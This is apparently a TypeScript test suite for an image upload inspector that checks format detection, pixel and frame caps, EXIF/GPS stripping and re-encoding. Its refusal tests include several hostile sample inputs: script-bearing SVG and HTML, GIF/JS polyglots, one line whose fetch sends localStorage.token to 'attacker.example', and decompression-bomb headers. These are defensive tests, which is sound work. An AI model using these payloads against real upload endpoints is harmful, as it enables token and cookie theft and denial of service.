import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { DomainError, type StagedUpload } from '@jan/domain';
import { jpegSize, pngSize, webpSize } from '../../src/infrastructure/images/image-size';
import { SharpImageInspector, type SharpImageInspectorOptions } from '../../src/infrastructure/images/sharp-image-inspector';
import { DEFAULT_IN_MEMORY_MAX_BYTES, TempFileUploadStaging } from '../../src/infrastructure/staging/temp-file-upload-staging';

/** The whole corpus is generated here with sharp or by hand; no binary fixtures. */

function noise(width: number, height: number, channels: 3 | 4 = 3, seed = 1) {
  const data = Buffer.alloc(width * height * channels);
  let x = seed * 2654435761;
  for (let i = 0; i < data.length; i++) {
    x = (x * 1103515245 + 12345) >>> 0;
    data[i] = (x >>> 16) & 0xff;
  }
  return sharp(data, { raw: { width, height, channels } });
}

async function frames(width: number, height: number, count: number): Promise<Buffer> {
  return Buffer.concat(await Promise.all(Array.from({ length: count }, (_, i) => noise(width, height, 4, i + 1).raw().toBuffer())));
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const out = Buffer.alloc(8 + data.length + 4);
  out.writeUInt32BE(data.length, 0);
  body.copy(out, 4);
  out.writeUInt32BE(crc32(body), 8 + data.length);
  return out;
}

/** A PNG whose IHDR (with a valid CRC) claims width × height, followed by a tiny IDAT. */
function pngClaiming(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // truecolour
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', ihdr),
    chunk('IDAT', Buffer.from('789c636000000000010001', 'hex')),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A bottom-up 24-bit BMP (BITMAPINFOHEADER), or an RLE8 header when asked. */
function bmp(width: number, height: number, compression = 0): Buffer {
  const stride = Math.floor((24 * width + 31) / 32) * 4;
  const pixels = Buffer.alloc(stride * height, 0x7f);
  const header = Buffer.alloc(54);
  header.write('BM', 0, 'latin1');
  header.writeUInt32LE(54 + pixels.length, 2);
  header.writeUInt32LE(54, 10);
  header.writeUInt32LE(40, 14);
  header.writeInt32LE(width, 18);
  header.writeInt32LE(height, 22);
  header.writeUInt16LE(1, 26);
  header.writeUInt16LE(compression === 0 ? 24 : 8, 28);
  header.writeUInt32LE(compression, 30);
  header.writeUInt32LE(pixels.length, 34);
  return Buffer.concat([header, pixels]);
}

function ifd0Tags(exif: Buffer): number[] {
  const tiff = exif.subarray(exif.indexOf('Exif\0\0') === 0 ? 6 : 0);
  const le = tiff.toString('latin1', 0, 2) === 'II';
  const u16 = (o: number) => (le ? tiff.readUInt16LE(o) : tiff.readUInt16BE(o));
  const u32 = (o: number) => (le ? tiff.readUInt32LE(o) : tiff.readUInt32BE(o));
  const ifd = u32(4);
  return Array.from({ length: u16(ifd) }, (_, i) => u16(ifd + 2 + i * 12));
}

const GPS_IFD_TAG = 0x8825;

let root: string;
let staging: TempFileUploadStaging;
const live: StagedUpload[] = [];

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'inspector-it-'));
});
afterEach(async () => {
  await Promise.all(live.splice(0).map((s) => s.dispose()));
  expect(await readdir(join(root, 'tmp')).catch(() => [])).toEqual([]);
});
afterAll(() => rm(root, { recursive: true, force: true }));

async function stage(bytes: Buffer): Promise<StagedUpload> {
  const staged = await staging.stage(Readable.from([bytes]), { maxBytes: 50 * 1024 * 1024 });
  live.push(staged);
  return staged;
}

function inspector(options: Partial<SharpImageInspectorOptions> = {}) {
  return new SharpImageInspector({ staging, ...options });
}

async function inspect(bytes: Buffer, options: Partial<SharpImageInspectorOptions> = {}) {
  const result = await inspector(options).inspect(await stage(bytes));
  if (!live.includes(result.stored)) live.push(result.stored);
  return result;
}

async function codeOf(bytes: Buffer, options: Partial<SharpImageInspectorOptions> = {}): Promise<string> {
  const error = await inspect(bytes, options).then(
    () => {
      throw new Error('expected the inspection to fail');
    },
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(DomainError);
  return (error as DomainError).code;
}

const corpus = {
  gpsJpeg: () =>
    noise(64, 48)
      .jpeg()
      .withMetadata({ orientation: 6 })
      .withExif({
        IFD0: { Make: 'AcmeCam', Model: 'X1' },
        IFD2: { BodySerialNumber: 'SN-998877' },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 51/1 29/1', GPSLongitudeRef: 'E', GPSLongitude: '2/1 17/1 40/1' },
      })
      .toBuffer(),
  cmykJpeg: () => noise(64, 48).toColourspace('cmyk').jpeg().toBuffer(),
  png16: () => noise(40, 30).toColourspace('rgb16').png().toBuffer(),
  png: () => noise(40, 30, 4).png().toBuffer(),
  webp: () => noise(40, 30).webp().toBuffer(),
  animatedGif: async () => sharp(await frames(32, 32, 3), { raw: { width: 32, height: 96, channels: 4, pageHeight: 32 } }).gif({ delay: [100, 150, 200], loop: 0 }).toBuffer(),
  animatedWebp: async () => sharp(await frames(32, 32, 3), { raw: { width: 32, height: 96, channels: 4, pageHeight: 32 } }).webp({ delay: [100, 150, 200], loop: 0 }).toBuffer(),
  multiPageTiff: async () => sharp(await frames(32, 32, 3), { raw: { width: 32, height: 96, channels: 4, pageHeight: 32 } }).tiff().toBuffer(),
};

/** An animated PNG of two frames (acTL, fcTL, fdAT by hand: sharp cannot write APNG). */
function apng(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8;
  ihdr[9] = 2;
  const rows = Buffer.concat(Array.from({ length: height }, (_, y) => Buffer.concat([Buffer.from([0]), Buffer.alloc(width * 3, y * 17)])));
  const control = (sequence: number) => {
    const fctl = Buffer.alloc(26);
    fctl.writeUInt32BE(sequence, 0);
    fctl.writeUInt32BE(width, 4);
    fctl.writeUInt32BE(height, 8);
    fctl.writeUInt16BE(1, 20);
    fctl.writeUInt16BE(10, 22);
    return chunk('fcTL', fctl);
  };
  const actl = Buffer.alloc(8);
  actl.writeUInt32BE(2, 0);
  const sequence = Buffer.alloc(4);
  sequence.writeUInt32BE(2, 0);
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', ihdr),
    chunk('acTL', actl),
    control(0),
    chunk('IDAT', deflateSync(rows)),
    control(1),
    chunk('fdAT', Buffer.concat([sequence, deflateSync(rows)])),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

describe('PNG, JPEG and WebP sizes read from the first bytes (image-size.ts) agree with libvips', () => {
  it.each<[string, () => Promise<Buffer>]>([
    ['RGBA PNG', corpus.png],
    ['16-bit PNG', corpus.png16],
    ['palette PNG', () => noise(33, 17).png({ palette: true }).toBuffer()],
    ['interlaced PNG', () => noise(41, 23).png({ progressive: true }).toBuffer()],
    ['greyscale PNG', () => noise(20, 70).greyscale().png().toBuffer()],
    ['APNG (one frame to libvips)', async () => apng(12, 7)],
    ['baseline JPEG', () => noise(640, 480).jpeg().toBuffer()],
    ['progressive JPEG', () => noise(333, 222).jpeg({ progressive: true }).toBuffer()],
    ['mozjpeg', () => noise(100, 60).jpeg({ mozjpeg: true }).toBuffer()],
    ['4:4:4 JPEG with an ICC profile', () => noise(90, 50).withIccProfile('p3').jpeg({ chromaSubsampling: '4:4:4' }).toBuffer()],
    ['JPEG with EXIF (GPS) and orientation 6', corpus.gpsJpeg],
    ['CMYK JPEG', corpus.cmykJpeg],
    ['lossy WebP', corpus.webp],
    ['lossless WebP', () => noise(77, 33).webp({ lossless: true }).toBuffer()],
    ['lossy WebP with alpha (extended)', () => noise(50, 40, 4).webp().toBuffer()],
    ['WebP with an ICC profile (extended)', () => noise(61, 29).withIccProfile('p3').webp().toBuffer()],
  ])('%s', async (_name, make) => {
    const bytes = await make();
    const meta = await sharp(bytes, { page: 0 }).metadata();
    const head = bytes.subarray(0, 4096);
    const size = meta.format === 'png' ? pngSize(head) : meta.format === 'jpeg' ? jpegSize(head) : webpSize(head);
    expect(size).toEqual({ width: meta.width, height: meta.height });
    expect(meta.pages ?? 1).toBe(1);
  });

  it('leaves an animated WebP to libvips, which counts its frames', async () => {
    const bytes = await corpus.animatedWebp();
    expect(webpSize(bytes.subarray(0, 4096))).toBeNull();
    expect((await sharp(bytes).metadata()).pages).toBe(3);
  });
});

// Small uploads are held in memory and large ones spooled to files: every case runs both ways.
describe.each([
  ['held in memory', DEFAULT_IN_MEMORY_MAX_BYTES],
  ['spooled to files', 0],
])('uploads %s', (_mode, inMemoryMaxBytes) => {
  beforeAll(() => {
    staging = new TempFileUploadStaging(join(root, 'tmp'), { inMemoryMaxBytes });
  });

  describe('SharpImageInspector: accepted images', () => {
    it.each([
      ['EXIF-GPS JPEG', corpus.gpsJpeg, 'image/jpeg', 64, 48, 1],
      ['CMYK JPEG', corpus.cmykJpeg, 'image/jpeg', 64, 48, 1],
      ['16-bit PNG', corpus.png16, 'image/png', 40, 30, 1],
      ['PNG with alpha', corpus.png, 'image/png', 40, 30, 1],
      ['WebP', corpus.webp, 'image/webp', 40, 30, 1],
      ['animated GIF', corpus.animatedGif, 'image/gif', 32, 32, 3],
      ['animated WebP', corpus.animatedWebp, 'image/webp', 32, 32, 3],
      ['multi-page TIFF', corpus.multiPageTiff, 'image/tiff', 32, 32, 3],
      ['BMP', async () => bmp(7, 5), 'image/bmp', 7, 5, 1],
    ])('%s: sniffed and measured, stored as-is when re-encoding is off', async (_name, make, mimeType, width, height, frames) => {
      const bytes = await make();
      const upload = await stage(bytes);
      const result = await inspector().inspect(upload);
      expect(result.facts).toEqual({ mimeType, width, height, frames });
      expect(result.stored).toBe(upload);
    });
  });

  describe('SharpImageInspector: refusals', () => {
    it.each([
      ['SVG', Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>')],
      ['SVG without XML prolog', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>')],
      ['HTML', Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>')],
      ['PDF', Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n')],
      ['plain text', Buffer.from('just some words, nothing else at all')],
      ['random bytes', Buffer.from(Array.from({ length: 256 }, (_, i) => (i * 37) % 256))],
      ['GIF/JS polyglot (GIF89a header + JS)', Buffer.from('GIF89a=1;/*\u0000\u0000*/alert(document.domain);var a="..........................................";')],
      ['GIF89a header followed by plain JS', Buffer.from('GIF89a/*xxxxxxxxxxxx*/=1;fetch("https://attacker.example/?c="+encodeURIComponent(localStorage.token));')],
      ['PNG signature followed by HTML', Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.from('<html><script>alert(1)</script></html>')])],
      ['JPEG signature followed by HTML', Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), Buffer.from('<html><body onload=alert(1)>hello</body></html>')])],
      ['compressed (RLE8) BMP', bmp(4, 4, 1)],
    ])('%s → unsupported_media_type', async (_name, bytes) => {
      expect(await codeOf(bytes)).toBe('unsupported_media_type');
    });

    it('a decodable GIF with a script after its trailer (the classic polyglot) → unsupported_media_type', async () => {
      const gif = await noise(8, 8, 4).gif().toBuffer();
      expect((await inspect(gif)).facts.mimeType).toBe('image/gif');
      expect(await codeOf(Buffer.concat([gif, Buffer.from('*/=alert(1)//')]))).toBe('unsupported_media_type');
    });

    it('a valid PNG with HTML after IEND → unsupported_media_type', async () => {
      const png = await corpus.png();
      expect(await codeOf(Buffer.concat([png, Buffer.from('<script src=//evil></script>')]))).toBe('unsupported_media_type');
      expect(await codeOf(Buffer.concat([png, Buffer.from('anything at all after IEND')]))).toBe('unsupported_media_type');
    });

    it('a valid WebP with bytes after its RIFF chunk → unsupported_media_type', async () => {
      expect(await codeOf(Buffer.concat([await corpus.webp(), Buffer.from('trailing payload')]))).toBe('unsupported_media_type');
    });

    it('a JPEG with an HTML comment segment → unsupported_media_type', async () => {
      const jpeg = await noise(16, 16).jpeg().toBuffer();
      const comment = Buffer.from('<html><script>alert(1)</script></html>');
      const com = Buffer.concat([Buffer.from([0xff, 0xfe, 0, comment.length + 2]), comment]);
      const poly = Buffer.concat([jpeg.subarray(0, 2), com, jpeg.subarray(2)]);
      expect(await codeOf(poly)).toBe('unsupported_media_type');
    });

    it('keeps JPEG data appended after EOI (phones write motion photos there) when it is not active content', async () => {
      const jpeg = await noise(16, 16).jpeg().toBuffer();
      const result = await inspect(Buffer.concat([jpeg, Buffer.alloc(2000, 0x11)]));
      expect(result.facts.mimeType).toBe('image/jpeg');
    });

    it.each([
      ['JPEG', () => noise(64, 48).jpeg().toBuffer()],
      ['CMYK JPEG', corpus.cmykJpeg],
      ['PNG', corpus.png],
      ['16-bit PNG', corpus.png16],
      ['WebP', corpus.webp],
      ['animated GIF', corpus.animatedGif],
      ['animated WebP', corpus.animatedWebp],
      ['multi-page TIFF', corpus.multiPageTiff],
      ['BMP', async () => bmp(20, 20)],
      // Above the whole-decode size: these go through the shrinking decode instead.
      ['large JPEG', () => noise(640, 480).jpeg().toBuffer()],
      ['large PNG', () => noise(640, 480).png().toBuffer()],
    ])('truncated %s → corrupt_image', async (_name, make) => {
      const bytes = await make();
      expect(await codeOf(bytes.subarray(0, Math.floor(bytes.length * 0.6)))).toBe('corrupt_image');
    });

    it.each([
      ['small', () => corpus.png()],
      ['large', () => noise(640, 480).png().toBuffer()],
    ])('a %s PNG with garbage in place of its pixel data → corrupt_image', async (_size, make) => {
      const png = await make();
      const broken = Buffer.from(png);
      for (let i = 60; i < broken.length - 20; i++) broken[i] ^= 0x5a;
      expect(await codeOf(broken)).toBe('corrupt_image');
    });

    it('zero bytes never reach the inspector: staging refuses them', async () => {
      await expect(staging.stage(Readable.from([]), { maxBytes: 10 })).rejects.toMatchObject({ code: 'empty_file' });
    });

    it('a PNG whose IHDR claims 100k × 100k → image_too_large, without decoding', async () => {
      const bomb = pngClaiming(100_000, 100_000);
      expect(bomb.length).toBeLessThan(100);
      const started = process.hrtime.bigint();
      expect(await codeOf(bomb)).toBe('image_too_large');
      expect(Number(process.hrtime.bigint() - started) / 1e6).toBeLessThan(2000);
    });

    it('a PNG header within the dimension cap but over the pixel cap → image_too_large', async () => {
      expect(await codeOf(pngClaiming(10_000, 10_000))).toBe('image_too_large');
    });

    it('a BMP header claiming 100k × 100k → image_too_large', async () => {
      const header = bmp(1, 1);
      header.writeInt32LE(100_000, 18);
      header.writeInt32LE(-100_000, 22);
      expect(await codeOf(header)).toBe('image_too_large');
    });

    it('honours the configured caps for pixels, sides and frames', async () => {
      expect(await codeOf(await noise(100, 100).png().toBuffer(), { maxPixels: 9_999 })).toBe('image_too_large');
      expect(await codeOf(await noise(101, 10).png().toBuffer(), { maxDimension: 100 })).toBe('image_too_large');
      expect(await codeOf(await corpus.animatedGif(), { maxFrames: 2 })).toBe('image_too_large');
      expect(await codeOf(await corpus.multiPageTiff(), { maxFrames: 2 })).toBe('image_too_large');
      // Three 32×32 frames are 3072 pixels: the pixel cap counts every frame.
      expect(await codeOf(await corpus.animatedWebp(), { maxPixels: 3000 })).toBe('image_too_large');
      expect((await inspect(await corpus.animatedWebp(), { maxPixels: 3072 })).facts.frames).toBe(3);
    });
  });

  describe('SharpImageInspector: re-encoding', () => {
    it('strip removes EXIF (GPS, serial, make) and bakes the orientation into the pixels', async () => {
      const original = await corpus.gpsJpeg();
      const before = await sharp(original).metadata();
      expect(ifd0Tags(before.exif!)).toContain(GPS_IFD_TAG);
      expect(before.orientation).toBe(6);
      expect(original.includes('SN-998877')).toBe(true);

      const upload = await stage(original);
      const result = await inspector({ reencode: 'strip' }).inspect(upload);
      live.push(result.stored);
      expect(result.stored).not.toBe(upload);
      const stored = await buffer(result.stored.open());
      const after = await sharp(stored).metadata();
      expect(after.exif).toBeUndefined();
      expect(after.xmp).toBeUndefined();
      expect(after.orientation).toBeUndefined();
      expect(stored.includes('SN-998877')).toBe(false);
      expect(stored.includes('AcmeCam')).toBe(false);
      expect([after.width, after.height]).toEqual([48, 64]);
      expect(result.facts).toEqual({ mimeType: 'image/jpeg', width: 48, height: 64, frames: 1 });
      expect(result.stored.bytes).toBe(stored.length);
      expect(result.stored.sha256).not.toBe(upload.sha256);
    });

    it('strip is deterministic, so the same original dedupes to the same stored hash', async () => {
      const original = await corpus.gpsJpeg();
      const a = await inspect(original, { reencode: 'strip' });
      const b = await inspect(original, { reencode: 'strip' });
      expect(a.stored.sha256).toBe(b.stored.sha256);
    });

    it.each([
      ['CMYK JPEG', corpus.cmykJpeg, 'image/jpeg', 1],
      ['16-bit PNG', corpus.png16, 'image/png', 1],
      ['WebP', corpus.webp, 'image/webp', 1],
      ['animated GIF', corpus.animatedGif, 'image/gif', 3],
      ['animated WebP', corpus.animatedWebp, 'image/webp', 3],
      ['multi-page TIFF', corpus.multiPageTiff, 'image/tiff', 3],
    ])('%s: strip and normalize keep the format and the frames, and the output decodes', async (_name, make, mimeType, frames) => {
      const original = await make();
      for (const reencode of ['strip', 'normalize'] as const) {
        const result = await inspect(original, { reencode });
        expect(result.facts.mimeType).toBe(mimeType);
        expect(result.facts.frames).toBe(frames);
        const stored = await buffer(result.stored.open());
        const meta = await sharp(stored).metadata();
        expect(meta.mediaType ?? `image/${meta.format}`).toBe(mimeType);
        expect(meta.pages ?? 1).toBe(frames);
        await sharp(stored, { pages: -1, failOn: 'error' }).stats();
        // The stored copy passes the same inspection it came out of.
        const again = await inspect(stored);
        expect(again.facts).toEqual(result.facts);
      }
    });

    it('normalize converts CMYK and 16-bit input to 8-bit sRGB', async () => {
      const cmyk = await inspect(await corpus.cmykJpeg(), { reencode: 'normalize' });
      const cmykMeta = await sharp(await buffer(cmyk.stored.open())).metadata();
      expect([cmykMeta.space, cmykMeta.channels, cmykMeta.hasProfile]).toEqual(['srgb', 3, false]);
      const png16 = await inspect(await corpus.png16(), { reencode: 'normalize' });
      expect((await sharp(await buffer(png16.stored.open())).metadata()).depth).toBe('uchar');
    });

    it('strip keeps 16-bit depth', async () => {
      const result = await inspect(await corpus.png16(), { reencode: 'strip' });
      expect((await sharp(await buffer(result.stored.open())).metadata()).depth).toBe('ushort');
    });

    it('animated GIF keeps its timing through normalize', async () => {
      const result = await inspect(await corpus.animatedGif(), { reencode: 'normalize' });
      const meta = await sharp(await buffer(result.stored.open())).metadata();
      expect(meta.delay).toEqual([100, 150, 200]);
      expect(meta.loop).toBe(0);
    });

    it('BMP is stored as-is even when re-encoding is on', async () => {
      const upload = await stage(bmp(3, 3));
      const result = await inspector({ reencode: 'normalize' }).inspect(upload);
      expect(result.stored).toBe(upload);
    });

    it('refuses a re-encoded copy over maxOutputBytes as image_too_large and leaves no file', async () => {
      expect(await codeOf(await noise(200, 200).png().toBuffer(), { reencode: 'strip', maxOutputBytes: 1000 })).toBe('image_too_large');
    });

    it('bounds concurrent inspections and still answers all of them', async () => {
      const bytes = await noise(300, 300).jpeg().toBuffer();
      const shared = inspector({ maxConcurrent: 2, reencode: 'strip' });
      const uploads = await Promise.all(Array.from({ length: 8 }, () => stage(bytes)));
      const results = await Promise.all(uploads.map((u) => shared.inspect(u)));
      for (const r of results) live.push(r.stored);
      expect(new Set(results.map((r) => r.stored.sha256)).size).toBe(1);
    });
  });
});
